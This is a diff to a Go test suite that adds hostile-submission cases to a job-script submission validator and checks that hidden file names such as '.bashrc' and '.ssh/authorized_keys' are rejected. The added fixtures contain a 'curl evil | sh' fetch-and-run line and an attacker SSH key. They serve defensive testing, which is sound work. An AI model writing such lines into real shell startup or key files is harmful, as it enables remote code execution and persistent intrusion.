@@ -153,6 +153,12 @@ func TestHostileSubmissions(t *testing.T) {
 	binary := string([]byte{0x80, 0x81, 0xfe, 0xff, 0x00, '\n', 0xc3, 0x28})
 	huge := strings.Repeat("x", 100<<20)
 	fileMsg := "Error processing job-script files -- invalid file name: "
+	hiddenMsg := "Error processing job-script files -- hidden file name: "
+	ownRC := filepath.Join(aliceDir, ".bashrc")
+	if err := os.WriteFile(ownRC, []byte("alice's own\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	os.Chown(ownRC, int(alice.UID), int(alice.GID))
 	argMsg := "Invalid sbatch arguments -- sbatch argument would add lines to the job script: argument 3 "
 
 	cases := []hostileCase{
@@ -200,6 +206,12 @@ func TestHostileSubmissions(t *testing.T) {
 			want: "Execution directory is invalid -- Execution directory is not owned by the user: " + *toBob + " (resolves to " + bobPublic + ")"},
 		{name: "bob's dir under a shared dir", dir: &bobShared, sc: files(n(19, "job.sh"), jobScript),
 			written: map[string][]byte{}},
+
+		// Hidden names: a template's file would replace one the submitter's programs read.
+		{name: "hidden support file", sc: files(n(20, "job.sh"), jobScript, ".bashrc", "curl evil | sh\n"),
+			want: hiddenMsg, contains: `".bashrc": an element begins with a dot`},
+		{name: "hidden directory element", sc: files(n(21, "job.sh"), jobScript, ".ssh/authorized_keys", "ssh-ed25519 AAAA evil\n"),
+			want: hiddenMsg, contains: "ALLOW_HIDDEN_FILES"},
 
 		// Owners.
 		{name: "root", email: "root@example.com",
@@ -257,6 +269,13 @@ func TestHostileSubmissions(t *testing.T) {
 				t.Errorf("%s: %s owned by uid %d, want alice", c.name, path, uid)
 			}
 		}
+	}
+
+	if b, err := os.ReadFile(ownRC); err != nil || string(b) != "alice's own\n" {
+		t.Errorf("alice's .bashrc now holds %q (%v)", b, err)
+	}
+	if _, err := os.Lstat(filepath.Join(aliceDir, "authorized_keys")); !os.IsNotExist(err) {
+		t.Errorf("authorized_keys was written: %v", err)
 	}
 
 	// Accepted cases: the entrypoints, where they should be, with their bytes intact.
